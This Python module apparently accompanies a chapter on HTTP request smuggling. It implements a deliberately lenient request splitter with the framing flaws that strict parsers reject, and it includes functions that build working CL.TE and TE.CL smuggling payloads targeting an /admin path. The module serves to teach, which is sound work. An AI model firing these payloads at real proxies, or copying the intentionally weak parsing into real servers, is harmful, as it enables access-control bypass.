"""A deliberately lenient request splitter: how a sloppy proxy frames requests.

Never use this to serve anything. Chapter 08 uses it to show request smuggling:
two programs that frame the same bytes differently disagree about where one
request ends and the next begins.

    frame_body(headers, data, prefer)   body and the rest, framed the sloppy way
    lenient_split(data, prefer)         the list of (method, path, body) it sees
    cl_te_attack(), te_cl_attack()      the two classic smuggling payloads

`prefer` says which header wins when a message has both: "content-length" (the
front end of a CL.TE attack) or "transfer-encoding" (its back end). Everything a
strict parser refuses (RFC 9112 §6.1, §6.3, §7.1), this one lets through: bare
LF, whitespace before the colon, duplicate fields (the last one wins, as in a
dict), `int()` for numbers, "chunked" found anywhere in the value.
"""

from collections import namedtuple

SplitRequest = namedtuple("SplitRequest", "method path body")

# The request an attacker wants to slip past the front end.
SMUGGLED = b"GET /admin HTTP/1.1\r\nHost: backend\r\n\r\n"


def frame_body(headers, data, prefer="transfer-encoding"):
    """Split `data` (what follows a head) into (body, rest), sloppily.

    `headers` is a dict of lower-case name → value, so a duplicate field has
    already lost all but one of its values without anyone noticing.
    """
    chunked = "chunked" in headers.get("transfer-encoding", "").lower()
    length = headers.get("content-length")
    if chunked and (prefer == "transfer-encoding" or length is None):
        return _sloppy_dechunk(data)
    if length is not None:
        size = max(0, int(length))  # int() takes " 12", "+12" and "1_2"
        return data[:size], data[size:]
    return b"", data


def _sloppy_dechunk(data):
    body = b""
    while True:
        line, _, data = data.partition(b"\n")
        size = int(line.split(b";")[0].strip(), 16)  # takes "0x1f", "+1f", " 1f "
        if size <= 0:
            break
        body, data = body + data[:size], data[size:]
        if data[:2] == b"\r\n":
            data = data[2:]
        elif data[:1] == b"\n":
            data = data[1:]
    while data:  # trailer lines, until an empty one
        line, _, data = data.partition(b"\n")
        if not line.strip():
            break
    return body, data


def _find_head_end(data):
    """(end of the head, start of what follows) or None: CRLF CRLF or LF LF."""
    ends = [(data.find(mark), len(mark)) for mark in (b"\r\n\r\n", b"\n\n")]
    ends = [(at, size) for at, size in ends if at != -1]
    if not ends:
        return None
    at, size = min(ends)
    return at, at + size


def lenient_split(data, prefer="transfer-encoding"):
    """The requests a sloppy proxy sees in `data`: a list of SplitRequest.

    An incomplete request at the end, or bytes it cannot make sense of, end
    the list: a proxy would wait for more bytes or give up there.
    """
    if prefer not in ("content-length", "transfer-encoding"):
        raise ValueError("prefer must be 'content-length' or 'transfer-encoding'")
    requests = []
    while True:
        data = data.lstrip(b"\r\n")
        found = _find_head_end(data)
        if found is None:
            return requests
        end, rest = found
        lines = data[:end].replace(b"\r\n", b"\n").split(b"\n")
        words = lines[0].decode("latin-1").split()
        headers = {}
        for line in lines[1:]:
            name, _, value = line.decode("latin-1").partition(":")
            headers[name.strip().lower()] = value.strip()
        try:
            body, data = frame_body(headers, data[rest:], prefer)
        except ValueError:
            return requests
        method = words[0] if words else ""
        path = words[1] if len(words) > 1 else ""
        requests.append(SplitRequest(method, path, body))


def cl_te_attack(smuggled=SMUGGLED, method=b"POST"):
    """CL.TE: Content-Length covers the smuggled request; chunked ends before it."""
    body = b"0\r\n\r\n" + smuggled
    return (b"%s / HTTP/1.1\r\nHost: example\r\n"
            b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n" % (method, len(body))) + body


def te_cl_attack(path=b"/admin"):
    """TE.CL: one chunk holds the smuggled request; Content-Length ends before it."""
    # The smuggled request's own Content-Length swallows the chunked ending.
    ending = b"\r\n0\r\n\r\n"
    smuggled = b"GET %s HTTP/1.1\r\nHost: backend\r\nContent-Length: %d\r\n\r\n" % (path, len(ending))
    size_line = b"%x\r\n" % len(smuggled)
    return (b"POST / HTTP/1.1\r\nHost: example\r\n"
            b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n" % len(size_line)
            ) + size_line + smuggled + ending
